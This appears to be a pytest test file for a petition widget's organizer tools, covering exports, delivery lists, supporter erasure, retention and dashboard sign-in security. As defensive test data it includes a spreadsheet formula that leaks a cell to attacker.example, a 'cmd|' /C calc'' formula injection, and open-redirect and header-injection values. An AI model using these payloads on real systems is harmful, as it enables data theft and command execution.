"""Organizer tools: counts, close and reopen, exports, delivery lists, privacy operations, accounts
and the dashboard; and that nothing personal leaks where it should not."""

import csv
import io
import json
import logging
import re
from datetime import UTC
from datetime import date
from datetime import datetime
from datetime import timedelta

import pytest
import yaml
from babel.dates import format_date
from bs4 import BeautifulSoup
from sqlalchemy import select
from sqlalchemy import text

from tests.conftest import DEMO_CAMPAIGNS
from tests.conftest import action_count
from tests.conftest import count_rows
from tests.conftest import demo_app
from tests.conftest import sign
from tests.test_call import report
from tests.test_call import single_district_zip
from tests.test_call import start
from widget.campaigns.loader import load_campaign_files
from widget.embedding.partners import add_partner
from widget.extensions import db
from widget.organizers import exports
from widget.organizers.exports import safe_cell
from widget.organizers.reports import campaign_counts
from widget.organizers.scope import Scope
from widget.storage.models import Campaign
from widget.storage.models import Signature

HOSTILE_CITY = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def runner(app):
    return app.test_cli_runner()


@pytest.fixture
def partner(app):
    with app.app_context():
        add_partner("red-ca", "Red de Apoyo California", ["https://red-ca.example.org"])
    return "red-ca"


def invoke(runner, *args, **kwargs):
    return runner.invoke(args=list(args), **kwargs)


def csv_rows(output):
    assert output.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(output[1:])))


def backdate(app, email, days):
    with app.app_context():
        signature = db.session.scalars(select(Signature).where(Signature.email == email)).one()
        signature.created_at = datetime.now(UTC) - timedelta(days=days)
        db.session.commit()


def second_petition(app, tmp_path):
    """Another petition, so one person can have signed twice over."""
    data = yaml.safe_load((DEMO_CAMPAIGNS / "demo-petition.yaml").read_text())
    data["slug"] = "second-petition"
    path = tmp_path / "second-petition.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True))
    with app.app_context():
        load_campaign_files([path])
    return "second-petition"


@pytest.fixture
def signed(app, client, partner):
    """Three signatures: two through the partner (one asked for its updates), one with no code."""
    sign(client, email="ana@example.org", lang="es", source=partner, opt_in="y", given_name="Ana",
         family_name="Hernández Ñúñez", city=HOSTILE_CITY)
    sign(client, email="ben@example.org", lang="en", source=partner, given_name="Ben")
    sign(client, email="carla@example.org", lang="es", given_name="Carla", city="Santa Ana")
    backdate(app, "carla@example.org", 3)
    return ["ana@example.org", "ben@example.org", "carla@example.org"]


# Counts, closing and reopening


def test_campaigns_list_counts_in_all_per_partner_per_language_and_per_day(runner, signed):
    result = invoke(runner, "campaigns", "list")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    petition = lines.index("demo-petition\tpetition\tlive\t3 signatures")
    assert lines[petition + 1] == "  partners:  red-ca 2, (no code) 1"
    assert lines[petition + 2] == "  languages: es 2, en 1"
    today, three_days_ago = datetime.now(UTC).date(), datetime.now(UTC).date() - timedelta(days=3)
    assert lines[petition + 3] == f"  days:      {three_days_ago} 1, {today} 2"
    assert "demo-call\tcall\tlive\t0 calls" in lines
    assert invoke(runner, "campaigns", "list", "--partner", "red-ca").output.splitlines()[petition] == (
        "demo-petition\tpetition\tlive\t2 signatures")
    assert invoke(runner, "campaigns", "list", "--partner", "nobody").exit_code == 1


def test_a_campaign_can_be_closed_and_reopened(app, client, runner):
    result = invoke(runner, "campaigns", "close", "demo-petition")
    assert result.exit_code == 0 and "demo-petition is now closed." in result.output
    assert "cerrada" in client.get("/embed/demo-petition?lang=es").get_data(as_text=True).lower()
    assert not client.get("/embed/demo-petition?lang=es").get_data(as_text=True).count('name="email"')
    assert "already closed" in invoke(runner, "campaigns", "close", "demo-petition").output
    assert invoke(runner, "campaigns", "reopen", "demo-petition").exit_code == 0
    assert 'name="email"' in client.get("/embed/demo-petition?lang=es").get_data(as_text=True)
    missing = invoke(runner, "campaigns", "close", "no-such-campaign")
    assert missing.exit_code == 1 and "no campaign named 'no-such-campaign'" in missing.output


# Exports


def test_csv_export_opens_in_spreadsheets_and_defuses_formulas(runner, signed, tmp_path):
    result = invoke(runner, "export", "demo-petition", "--output", str(tmp_path / "export.csv"))
    assert result.exit_code == 0, result.output
    assert f"Written to {tmp_path / 'export.csv'} (readable by you only)." in result.stderr
    written = (tmp_path / "export.csv").read_bytes()
    assert written.count(b"\r\n") == 4, "RFC 4180 line ends"
    rows = csv_rows(written.decode("utf-8"))
    header, *records = rows
    assert header == ["created_date", "given_name", "family_name", "email", "city", "postal_code", "country",
                      "language", "source", "opted_in", "consented"]
    by_email = {row[3]: dict(zip(header, row, strict=True)) for row in records}
    assert set(by_email) == set(signed)
    ana = by_email["ana@example.org"]
    assert ana["family_name"] == "Hernández Ñúñez" and ana["source"] == "red-ca" and ana["opted_in"] == "yes"
    assert ana["city"] == "'" + HOSTILE_CITY
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", ana["created_date"])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_defused(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("Ana") == "Ana" and safe_cell(None) == "" and safe_cell(True) == "yes"


def test_json_export_follows_osdi(runner, signed):
    result = invoke(runner, "export", "demo-petition", "--format", "json")
    data = json.loads(result.stdout)
    assert data["total_records"] == 3
    ana = next(s for s in data["_embedded"]["osdi:signatures"]
               if s["person"]["email_addresses"][0]["address"] == "ana@example.org")
    assert ana["person"]["given_name"] == "Ana" and ana["person"]["family_name"] == "Hernández Ñúñez"
    assert ana["person"]["email_addresses"] == [{"address": "ana@example.org", "primary": True}]
    assert ana["person"]["postal_addresses"] == [{"locality": HOSTILE_CITY, "postal_code": "01101"}]
    assert ana["referrer_data"] == {"source": "red-ca"}
    assert ana["created_date"].endswith("Z")


def test_exports_filter_by_partner_and_date(runner, signed):
    partner_rows = csv_rows(invoke(runner, "export", "demo-petition", "--partner", "red-ca").stdout)[1:]
    # A partner gets only its own supporters, and of those only who asked for its updates.
    assert [row[3] for row in partner_rows] == ["ana@example.org"]
    today = datetime.now(UTC).date()
    recent = csv_rows(invoke(runner, "export", "demo-petition", "--since", str(today)).stdout)[1:]
    assert sorted(row[3] for row in recent) == ["ana@example.org", "ben@example.org"]
    older = csv_rows(invoke(runner, "export", "demo-petition", "--until", str(today - timedelta(days=1))).stdout)
    assert [row[3] for row in older[1:]] == ["carla@example.org"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["no-such-campaign"], "no campaign named 'no-such-campaign'"),
        (["demo-petition", "--since", "2026-13-45"], "'2026-13-45': write the day as year-month-day, like 2026-11-21"),
        (["demo-petition", "--since", "21/11/2026"], "'21/11/2026': write the day as year-month-day"),
        (["demo-petition", "--since", "2026-11-20", "--until", "2026-11-01"], "--since is after --until"),
        (["demo-petition", "--partner", "not-registered"], "no partner with code 'not-registered'"),
        (["demo-petition", "--format", "xlsx"], "'xlsx' is not one of"),
    ],
)
def test_exports_refuse_bad_requests_clearly(runner, args, message):
    result = invoke(runner, "export", *args)
    assert result.exit_code != 0 and message in result.output


def test_calls_export_says_what_happened_and_nothing_about_who(app, client, runner):
    step = start(client, postal_code=single_district_zip(), given_name="Dolores", city="Fresno")
    report(client, step, "talked_to_staff", source="red-ca")
    rows = csv_rows(invoke(runner, "export", "demo-call").stdout)
    assert rows[0] == ["created_date", "target", "outcome", "language", "source"]
    assert rows[1][2:] == ["talked_to_staff", "en", "red-ca"] and len(rows) == 2
    outreach = json.loads(invoke(runner, "export", "demo-call", "--format", "json").stdout)
    [call] = outreach["_embedded"]["osdi:outreaches"]
    assert call["type"] == "phone" and call["targets"][0]["identifiers"][0].startswith("bioguide:")
    assert "Dolores" not in json.dumps(outreach) and "Fresno" not in json.dumps(outreach)


# The delivery list


def test_the_delivery_list_has_only_what_was_promised(runner, signed):
    page = invoke(runner, "deliver", "demo-petition").stdout
    assert '<html lang="es">' in page and "Alto a las detenciones masivas y arbitrarias" in page
    assert "3 personas firmaron esta petición" in page
    table = BeautifulSoup(page, "html.parser").select("tbody tr")
    rows = [[cell.get_text() for cell in row.select("td")] for row in table]
    assert rows[0] == ["1", "Carla", "Pérez", "Santa Ana"]  # oldest first
    assert ["2", "Ana", "Hernández Ñúñez", HOSTILE_CITY] in rows
    assert "@example.org" not in page and "01101" not in page
    rows = csv_rows(invoke(runner, "deliver", "demo-petition", "--format", "csv").stdout)
    assert rows[0] == ["Nombre", "Apellidos", "Ciudad"]
    assert ["Ana", "Hernández Ñúñez", "'" + HOSTILE_CITY] in rows
    english = csv_rows(invoke(runner, "deliver", "demo-petition", "--format", "csv", "--language", "en").stdout)
    assert english[0] == ["First name", "Last name", "City"]


def test_the_delivery_list_refuses_call_ins_and_unknown_languages(runner):
    assert "is a call-in" in invoke(runner, "deliver", "demo-call").output
    assert "has no 'fr' text" in invoke(runner, "deliver", "demo-petition", "--language", "fr").output


# Privacy operations


def test_a_supporter_is_erased_everywhere_and_counts_follow(app, client, runner, signed, tmp_path):
    second = second_petition(app, tmp_path)
    sign(client, slug=second, email="ANA@example.org")
    result = invoke(runner, "supporters", "erase", "Ana@Example.org", "--yes")
    assert result.exit_code == 0, result.output
    assert "demo-petition: 1 signature deleted" in result.output and f"{second}: 1 signature deleted" in result.output
    assert "Removed 2 in all." in result.output
    assert action_count(app) == 2 and action_count(app, second) == 0
    with app.app_context():
        assert db.session.scalar(select(Signature).where(Signature.given_name == "Ana")) is None
    again = invoke(runner, "supporters", "erase", "ana@example.org", "--yes")
    assert again.exit_code == 0 and again.output == "Nothing is stored for that address.\n"
    assert invoke(runner, "supporters", "erase", "not-an-address", "--yes").exit_code == 1
    # Told at once, not after being asked to confirm what cannot be done.
    typo = invoke(runner, "supporters", "erase", "not-an-address", input="y\n")
    assert typo.exit_code == 1 and "is not an email address" in typo.output and "cannot be undone" not in typo.output
    assert invoke(runner, "supporters", "erase", "ben@example.org", input="n\n").exit_code == 1
    assert action_count(app) == 2


def test_addresses_that_differ_only_by_sharp_s_are_two_people(app, client, runner):
    """ana@straße.de and ana@strasse.de are two domains: each signs, and erasing one keeps the other."""
    assert sign(client, email="ana@straße.de").status_code == 303
    assert sign(client, email="ana@strasse.de").status_code == 303
    assert sign(client, email="ANA@STRASSE.DE").status_code == 303  # the same person again
    assert action_count(app) == count_rows(app, Signature) == 2
    result = invoke(runner, "supporters", "erase", "ana@straße.de", "--yes")
    assert result.exit_code == 0 and "Removed 1 in all." in result.output
    with app.app_context():
        assert db.session.scalars(select(Signature.email)).all() == ["ana@strasse.de"]


def test_retention_blanks_old_details_and_keeps_every_count(app, runner, signed):
    backdate(app, "carla@example.org", 400)
    result = invoke(runner, "supporters", "expire", "--days", "365")
    assert result.exit_code == 0 and "Personal details removed from 1 signatures" in result.output
    with app.app_context():
        old = db.session.scalars(select(Signature).where(Signature.language == "es", Signature.source.is_(None))).one()
        assert (old.given_name, old.email, old.email_key, old.city, old.ip_digest) == (None,) * 5
    assert action_count(app) == 3
    listing = invoke(runner, "campaigns", "list").output
    assert "demo-petition\tpetition\tlive\t3 signatures" in listing and "languages: es 2, en 1" in listing
    assert len(csv_rows(invoke(runner, "export", "demo-petition").stdout)) == 3
    assert "2 de ellas aparecen abajo" in invoke(runner, "deliver", "demo-petition").stdout
    assert invoke(runner, "supporters", "expire", "--days", "0").exit_code == 1


def test_no_ip_address_is_stored_in_clear(app, client):
    client.environ_base["REMOTE_ADDR"] = "203.0.113.77"
    assert sign(client).status_code < 400
    with app.app_context():
        [row] = db.session.execute(text("SELECT * FROM signatures")).mappings().all()
    assert not any("203.0.113" in str(value) for value in row.values())
    assert re.fullmatch(r"[0-9a-f]{16,32}", row["ip_digest"])


def test_nothing_personal_reaches_public_pages_or_logs(app, client, caplog):
    caplog.set_level(logging.DEBUG)
    details = {"given_name": "Zenaida", "family_name": "Quintanilla", "email": "zenaida.q@example.org",
               "city": "Chalatenango"}
    first = sign(client, **details)
    thanks = client.get(first.headers["Location"]).get_data(as_text=True)
    repeat = client.get(sign(client, **details).headers["Location"]).get_data(as_text=True)
    public = [thanks, repeat] + [
        client.get(url).get_data(as_text=True)
        for url in ("/embed/demo-petition?lang=es", "/api/v1/campaigns/demo-petition", "/c/demo-petition",
                    "/oembed?url=http://localhost/c/demo-petition", "/healthz")
    ]
    for value in details.values():
        assert not any(value in page for page in public), value
        assert value not in caplog.text, value


# Organizer accounts


def test_organizer_accounts_are_made_reset_and_removed(runner, partner):
    made = invoke(runner, "organizers", "add", "Maria", "--partner", partner)
    assert made.exit_code == 0 and "Account maria (partner red-ca only)" in made.output
    assert re.search(r"shown only now: \S{20}", made.output)
    assert "already has an account" in invoke(runner, "organizers", "add", "maria").output
    unknown = invoke(runner, "organizers", "add", "ghost-user", "--partner", "ghost")
    assert "no partner with code 'ghost'" in unknown.output
    assert "use 2-64 lower-case" in invoke(runner, "organizers", "add", "bad name!").output
    assert invoke(runner, "organizers", "list").output == "maria\tred-ca\n"
    assert "New password for maria" in invoke(runner, "organizers", "reset-password", "maria").output
    assert invoke(runner, "organizers", "remove", "maria").exit_code == 0
    assert "no account named 'maria'" in invoke(runner, "organizers", "remove", "maria").output


# The dashboard


def make_account(runner, username, partner=None):
    output = invoke(runner, "organizers", "add", username, *(["--partner", partner] if partner else [])).output
    return re.search(r"shown only now: (\S+)", output).group(1)


def csrf(response):
    page = BeautifulSoup(response.get_data(as_text=True), "html.parser")
    return page.find("input", attrs={"name": "csrf_token"})["value"]


def sign_in(client, username, password, lang="en"):
    page = client.get(f"/dashboard/sign-in?lang={lang}")
    return client.post(f"/dashboard/sign-in?lang={lang}",
                       data={"csrf_token": csrf(page), "username": username, "password": password})


def test_the_dashboard_asks_to_sign_in_and_refuses_wrong_passwords(app, client, runner):
    password = make_account(runner, "olga")
    assert client.get("/dashboard/?lang=es").headers["Location"].startswith("/dashboard/sign-in?lang=es")
    wrong = sign_in(client, "olga", "not-the-password", lang="es")
    assert wrong.status_code == 401 and "no coinciden" in wrong.get_data(as_text=True)
    assert sign_in(client, "nobody", password).status_code == 401
    empty = sign_in(client, "", "", lang="es")
    assert empty.status_code == 400 and "Escriba su nombre de usuario." in empty.get_data(as_text=True)
    assert focused_on_load(empty) == ["username"]  # the first field to correct, read out with its error
    assert "<footer" not in empty.get_data(as_text=True)  # no empty strip at the bottom of the page
    forged = client.post("/dashboard/sign-in?lang=en", data={"username": "olga", "password": password})
    assert forged.status_code == 400 and "Please sign in again" in forged.get_data(as_text=True)
    # With no cookie at all (blocked by the browser), the page says so, not that it was open too long.
    cookieless = app.test_client()
    token = csrf(cookieless.get("/dashboard/sign-in?lang=en"))
    cookieless.delete_cookie("megafono_dashboard", path="/dashboard")
    blocked = cookieless.post("/dashboard/sign-in?lang=en",
                              data={"csrf_token": token, "username": "olga", "password": password})
    assert blocked.status_code == 400 and "did not send back this site's cookie" in blocked.get_data(as_text=True)
    assert client.get("/dashboard/").status_code == 302
    assert sign_in(client, "olga", password).status_code == 302
    assert client.get("/dashboard/").status_code == 200


def test_the_dashboard_is_never_framed_and_its_cookie_is_kept_close(app, client, runner):
    password = make_account(runner, "olga")
    response = sign_in(client, "olga", password)
    cookie = response.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/dashboard" in cookie
    page = client.get("/dashboard/")
    assert "frame-ancestors 'none'" in page.headers["Content-Security-Policy"]
    assert page.headers["X-Frame-Options"] == "DENY" and page.headers["Cache-Control"] == "no-store"
    assert "Set-Cookie" not in client.get("/embed/demo-petition").headers


def test_a_new_password_signs_the_account_out(app, client, runner):
    sign_in(client, "olga", make_account(runner, "olga"))
    assert client.get("/dashboard/").status_code == 200
    invoke(runner, "organizers", "reset-password", "olga")
    assert client.get("/dashboard/").status_code == 302


def test_signing_out_needs_the_forms_token(client, runner):
    sign_in(client, "olga", make_account(runner, "olga"))
    page = client.get("/dashboard/")
    client.post("/dashboard/sign-out")
    assert client.get("/dashboard/").status_code == 200
    client.post("/dashboard/sign-out", data={"csrf_token": csrf(page)})
    assert client.get("/dashboard/").status_code == 302


def test_the_dashboard_shows_counts_and_exports(client, runner, signed):
    sign_in(client, "olga", make_account(runner, "olga"), lang="es")
    listing = client.get("/dashboard/?lang=es").get_data(as_text=True)
    assert "3 firmas" in listing and "Alto a las detenciones masivas y arbitrarias" in listing
    page = BeautifulSoup(client.get("/dashboard/campaigns/demo-petition?lang=es").get_data(as_text=True), "html.parser")
    assert len(page.select("svg rect")) == 4  # three days ago, two quiet days, today
    partners = [row.get_text(" ", strip=True) for row in page.select("#by-partners ~ table tbody tr")]
    assert partners == ["Red de Apoyo California 2", "Sin código de organización aliada 1"]
    export = client.get("/dashboard/campaigns/demo-petition/export?file_format=csv&since=&until=")
    assert export.headers["Content-Disposition"] == 'attachment; filename="demo-petition.csv"'
    assert len(csv_rows(export.get_data(as_text=True))) == 4
    delivery = client.get("/dashboard/campaigns/demo-petition/delivery.html")
    assert delivery.status_code == 200 and "Hernández Ñúñez" in delivery.get_data(as_text=True)
    # Dated, since paper is read long after; and offered in each of the campaign's languages.
    today = datetime.now(UTC).date()
    assert f"Lista al {format_date(today, format='medium', locale='es_419')}" in delivery.get_data(as_text=True)
    english = client.get("/dashboard/campaigns/demo-petition/delivery.html?language=en").get_data(as_text=True)
    assert '<html lang="en">' in english and "List as of" in english
    links = [link["href"] for link in page.select("a[href*=delivery]")]
    assert "/dashboard/campaigns/demo-petition/delivery.html?lang=es&language=en" in links


def focused_on_load(response):
    """The fields a page focuses as it loads."""
    page = BeautifulSoup(response.get_data(as_text=True), "html.parser")
    return [field["name"] for field in page.find_all(autofocus=True)]


def test_bad_export_dates_are_explained_in_the_organizers_language(client, runner):
    sign_in(client, "olga", make_account(runner, "olga"))
    bad = client.get("/dashboard/campaigns/demo-petition/export?lang=es&file_format=csv&since=2026-02-31")
    assert bad.status_code == 400 and "Escriba una fecha con este formato: 2026-11-21." in bad.get_data(as_text=True)
    assert focused_on_load(bad) == ["since"]
    export = "/dashboard/campaigns/demo-petition/export"
    backwards = client.get(f"{export}?file_format=csv&since=2026-11-20&until=2026-11-01")
    # Two screens below the top on a phone: the page opens on it, not on a download that never comes.
    assert backwards.status_code == 400 and focused_on_load(backwards) == ["until"]
    assert focused_on_load(client.get("/dashboard/campaigns/demo-petition")) == []
    assert client.get("/dashboard/campaigns/demo-petition/export?file_format=exe").status_code == 400
    missing = client.get("/dashboard/campaigns/no-such-campaign?lang=es")
    assert missing.status_code == 404
    page = BeautifulSoup(missing.get_data(as_text=True), "html.parser")
    # The dashboard's own words, and a way back: not the widget's "no campaign at this address".
    assert "No hay nada en esta dirección del panel." in page.get_text()
    # A way back, and the same page in each language.
    assert [link["href"] for link in page.find_all("a")] == [
        "/dashboard/?lang=es", "/dashboard/campaigns/no-such-campaign?lang=en",
        "/dashboard/campaigns/no-such-campaign?lang=es", "/dashboard/?lang=es"]
    nowhere = client.get("/dashboard/nope?lang=es")
    assert nowhere.status_code == 404
    # An address that is no page of the dashboard's leads to the campaigns in the other language.
    languages = BeautifulSoup(nowhere.get_data(as_text=True), "html.parser").select("nav a")
    assert [link["href"] for link in languages] == ["/dashboard/?lang=en", "/dashboard/?lang=es"]
    assert client.post("/dashboard/?lang=es").status_code == 405
    # An error on an address only posted to, or one that downloads, leads to a page to read.
    too_big = client.post("/dashboard/sign-out?lang=es", data={"x": "a" * 100_000})
    assert too_big.status_code == 413
    languages = BeautifulSoup(too_big.get_data(as_text=True), "html.parser").select("nav a")
    assert [link["href"] for link in languages] == ["/dashboard/?lang=en", "/dashboard/?lang=es"]
    unknown = client.get("/dashboard/campaigns/demo-petition/delivery.csv?language=zz&lang=es")
    assert unknown.status_code == 404
    languages = BeautifulSoup(unknown.get_data(as_text=True), "html.parser").select("nav a")
    assert languages[0]["href"] == "/dashboard/campaigns/demo-petition?lang=en"


def test_a_partners_organizer_sees_only_that_partners_supporters(client, runner, signed, partner):
    sign_in(client, "pat", make_account(runner, "pat", partner))
    page = client.get("/dashboard/campaigns/demo-petition").get_data(as_text=True)
    assert "2 signatures" in page and "Delivery list" not in page
    lead = " ".join(BeautifulSoup(page, "html.parser").find("p", class_="page__lead").get_text().split())
    assert lead == "Open · 2 signatures · through Red de Apoyo California"
    links = [link["href"] for link in BeautifulSoup(page, "html.parser").select("main ul.dashboard__links a")]
    # The campaign's page, and the code to show it with the partner's own code in it.
    assert links[:2] == ["/c/demo-petition?lang=en", "/c/demo-petition/embed?lang=en&source=red-ca"]
    assert "On the command line, this campaign is demo-petition." in page
    # Before downloading: how many of them the file will hold, and no word of unregistered sites.
    assert "You can export 1 of them: the supporters who asked for updates from Red de Apoyo California." in page
    assert "not registered yet" not in page
    rows = csv_rows(client.get("/dashboard/campaigns/demo-petition/export?file_format=csv").get_data(as_text=True))
    assert [row[3] for row in rows[1:]] == ["ana@example.org"]
    refused = client.get("/dashboard/campaigns/demo-petition/delivery.csv")
    assert refused.status_code == 403 and "but not this page" in refused.get_data(as_text=True)


def test_a_partner_without_sites_is_told_why_it_can_export_nobody(app, client, runner):
    with app.app_context():
        add_partner("sin-sitios", "Sin Sitios")
    sign(client, source="sin-sitios", email="ana@example.org", opt_in="y")
    sign_in(client, "pat", make_account(runner, "pat", "sin-sitios"), lang="es")
    page = client.get("/dashboard/campaigns/demo-petition?lang=es").get_data(as_text=True)
    assert "Puede exportar 0 de ellas" in page and "Sus sitios todavía no están registrados" in page


# What the first review found


def test_a_partner_never_gets_people_whose_box_did_not_name_it(app, client, runner):
    with app.app_context():
        add_partner("sin-sitios", "Sin Sitios")  # no sites registered: the box names the organizer
    sign(client, email="quiet@example.org", source="sin-sitios", opt_in="y")
    sign(client, email="early@example.org", source="later", opt_in="y")
    with app.app_context():
        add_partner("later", "Registered Later", ["https://later.example.org"])
    for code in ("sin-sitios", "later"):
        assert len(csv_rows(invoke(runner, "export", "demo-petition", "--partner", code).stdout)) == 1


def test_cells_are_quoted_so_a_semicolon_cannot_start_a_formula(runner, client, signed, tmp_path):
    sign(client, email="semi@example.org", city="Ana;=cmd|' /C calc'!A0")
    invoke(runner, "export", "demo-petition", "-o", str(tmp_path / "out.csv"))
    lines = (tmp_path / "out.csv").read_bytes().decode("utf-8-sig").split("\r\n")
    assert all(line.startswith('"') and line.endswith('"') for line in lines if line)
    assert '"Ana;=cmd|\' /C calc\'!A0"' in "\n".join(lines)


def test_an_open_campaigns_days_run_to_today_quiet_ones_included(app, client, runner, signed):
    with app.app_context():
        for signature in db.session.scalars(select(Signature)):
            signature.created_at = datetime.now(UTC) - timedelta(days=3)
        db.session.commit()
    sign_in(client, "olga", make_account(runner, "olga"))
    page = BeautifulSoup(client.get("/dashboard/campaigns/demo-petition").get_data(as_text=True), "html.parser")
    days = [row.find_all("td")[1].get_text() for row in page.select("details.chart__numbers tbody tr")]
    assert days == ["0", "0", "0", "3"]  # today first: a campaign gone quiet shows as quiet


def test_the_last_day_is_included_whole_and_no_further(app, runner, signed):
    day = datetime(2026, 3, 10, tzinfo=UTC)
    for email, moment in (("ana@example.org", day.replace(hour=23, minute=59, second=59)),
                          ("ben@example.org", day + timedelta(days=1))):
        with app.app_context():
            db.session.scalars(select(Signature).where(Signature.email == email)).one().created_at = moment
            db.session.commit()
    until = [row[3] for row in csv_rows(invoke(runner, "export", "demo-petition", "--until", "2026-03-10").stdout)[1:]]
    assert until == ["ana@example.org"]
    since = csv_rows(invoke(runner, "export", "demo-petition", "--since", "2026-03-11", "--until", "9999-12-31").stdout)
    assert sorted(row[3] for row in since[1:]) == ["ben@example.org", "carla@example.org"]


def test_export_files_are_private_and_never_overwritten_by_surprise(runner, signed, tmp_path):
    target = tmp_path / "export.csv"
    assert invoke(runner, "export", "demo-petition", "-o", str(target)).exit_code == 0
    assert target.stat().st_mode & 0o777 == 0o600
    again = invoke(runner, "export", "demo-petition", "-o", str(target))
    assert again.exit_code == 1 and "already exists" in again.output
    assert invoke(runner, "export", "demo-petition", "-o", str(target), "--force").exit_code == 0
    # An older file readable by others is replaced by a private one, not written into.
    target.chmod(0o644)
    assert invoke(runner, "export", "demo-petition", "-o", str(target), "--force").exit_code == 0
    assert target.stat().st_mode & 0o777 == 0o600 and not list(tmp_path.glob("*.part"))


def test_an_export_goes_only_where_a_plain_file_can(runner, signed, tmp_path):
    elsewhere = tmp_path / "elsewhere.csv"
    elsewhere.write_text("someone else's")
    link = tmp_path / "link.csv"
    link.symlink_to(elsewhere)
    for target in (link, tmp_path):
        refused = invoke(runner, "export", "demo-petition", "-o", str(target), "--force")
        assert refused.exit_code == 1 and "is not a plain file" in refused.output
    assert link.is_symlink() and elsewhere.read_text() == "someone else's"
    missing = invoke(runner, "export", "demo-petition", "-o", str(tmp_path / "no-such-folder" / "x.csv"))
    assert missing.exit_code == 1 and "cannot write" in missing.output and "Traceback" not in missing.output


def test_an_export_that_fails_half_way_leaves_the_old_file_whole(runner, signed, tmp_path, monkeypatch):
    folder = tmp_path / "exports"
    folder.mkdir()
    target = folder / "export.csv"
    target.write_text("last week's export")

    def failing(*args, **kwargs):
        yield "created_date,given_name\r\n"
        raise OSError(28, "No space left on device")

    monkeypatch.setitem(exports.EXPORTS, "csv", failing)
    result = invoke(runner, "export", "demo-petition", "-o", str(target), "--force")
    assert result.exit_code != 0 and target.read_text() == "last week's export"
    assert [path.name for path in folder.iterdir()] == ["export.csv"]
    new = folder / "new.csv"
    assert invoke(runner, "export", "demo-petition", "-o", str(new)).exit_code != 0 and not new.exists()


def test_an_address_to_erase_can_come_from_standard_input(app, runner, signed, monkeypatch):
    refused = invoke(runner, "supporters", "erase", "-", input="carla@example.org\n")
    assert refused.exit_code == 2 and "add --yes" in refused.output and action_count(app) == 3
    result = invoke(runner, "supporters", "erase", "-", "--yes", input="carla@example.org\n")
    assert "demo-petition: 1 signature deleted" in result.output and action_count(app) == 2
    # Typed at a terminal: asked for, then confirmed.
    monkeypatch.setattr("widget.organizers.cli.typed_at_a_terminal", lambda: True)
    typed = invoke(runner, "supporters", "erase", "-", input="ana@example.org\ny\n")
    assert typed.exit_code == 0 and "demo-petition: 1 signature deleted" in typed.output and action_count(app) == 1


def test_signing_out_ends_the_session_even_for_a_copied_cookie(app, client, runner):
    sign_in(client, "olga", make_account(runner, "olga"))
    copy = app.test_client()
    copy.set_cookie("megafono_dashboard", client.get_cookie("megafono_dashboard", path="/dashboard").value,
                    path="/dashboard")
    assert copy.get("/dashboard/").status_code == 200
    client.post("/dashboard/sign-out", data={"csrf_token": csrf(client.get("/dashboard/"))})
    assert copy.get("/dashboard/").status_code == 302


def test_a_session_ends_twelve_hours_after_signing_in(client, runner):
    sign_in(client, "olga", make_account(runner, "olga"))
    with client.session_transaction("/dashboard/") as session:
        session["since"] -= 12 * 60 * 60 + 1
    assert client.get("/dashboard/").status_code == 302


def test_nothing_personal_is_reachable_signed_out(client, signed):
    for path in ("/dashboard/", "/dashboard/campaigns/demo-petition", "/dashboard/campaigns/demo-petition/export",
                 "/dashboard/campaigns/demo-petition/export?file_format=json",
                 "/dashboard/campaigns/demo-petition/delivery.html", "/dashboard/campaigns/demo-petition/delivery.csv"):
        response = client.get(path)
        assert response.status_code == 302 and "@example.org" not in response.get_data(as_text=True), path


def test_signing_in_leads_back_to_the_campaign_asked_for(app, client, runner):
    password = make_account(runner, "olga")
    asked = client.get("/dashboard/campaigns/demo-petition?lang=es")
    assert asked.headers["Location"] == "/dashboard/sign-in?lang=es&campaign=demo-petition"
    # Switching language on the way keeps where it leads.
    form = client.get(asked.headers["Location"])
    assert 'href="/dashboard/sign-in?campaign=demo-petition&amp;lang=en"' in form.get_data(as_text=True)
    signed = client.post(asked.headers["Location"],
                         data={"csrf_token": csrf(form), "username": "olga", "password": password})
    assert signed.headers["Location"] == "/dashboard/campaigns/demo-petition?lang=es"
    # A download leads to its campaign's page: one started from the sign-in page would look as if
    # signing in had failed.
    client.post("/dashboard/sign-out", data={"csrf_token": csrf(client.get("/dashboard/"))})
    for download in ("delivery.csv?language=en", "delivery.html", "export?file_format=json"):
        asked = client.get(f"/dashboard/campaigns/demo-petition/{download}")
        assert asked.headers["Location"] == "/dashboard/sign-in?lang=en&campaign=demo-petition", download


@pytest.mark.parametrize("campaign", [
    "https://evil.example/", "//evil.example", "../embed/demo-petition", "demo-petition/../../x",
    "demo-petition\r\nSet-Cookie: x=1", "Demo-Petition", "a" * 81, "", "demo-petition/export",
])
def test_signing_in_leads_only_to_a_campaigns_page(client, runner, campaign):
    password = make_account(runner, "olga")
    page = client.get("/dashboard/sign-in?lang=en")
    signed = client.post("/dashboard/sign-in", query_string={"lang": "en", "campaign": campaign},
                         data={"csrf_token": csrf(page), "username": "olga", "password": password})
    assert signed.status_code == 302 and signed.headers["Location"] == "/dashboard/?lang=en"


def test_signing_in_to_a_campaign_that_does_not_exist_says_so_in_the_dashboard(client, runner):
    password = make_account(runner, "olga")
    page = client.get("/dashboard/sign-in?lang=es&campaign=no-such-campaign")
    signed = client.post("/dashboard/sign-in?lang=es&campaign=no-such-campaign",
                         data={"csrf_token": csrf(page), "username": "olga", "password": password})
    assert signed.headers["Location"] == "/dashboard/campaigns/no-such-campaign?lang=es"
    assert client.get(signed.headers["Location"]).status_code == 404


def signed_at(app, moments):
    """Signatures on the demo petition made at these moments (UTC)."""
    client = app.test_client()
    for number, moment in enumerate(moments):
        email = f"zone{number}@example.org"
        sign(client, email=email)
        with app.app_context():
            signature = db.session.scalars(select(Signature).where(Signature.email == email)).one()
            signature.created_at = moment
            db.session.commit()


def days_counted(app):
    with app.app_context():
        campaign = db.session.scalars(select(Campaign).where(Campaign.slug == "demo-petition")).one()
        return campaign_counts(Scope(campaign)).by_day, campaign


@pytest.mark.parametrize(("zone", "days"), [
    ("UTC", [("2026-12-06", 1), ("2026-12-07", 3)]),
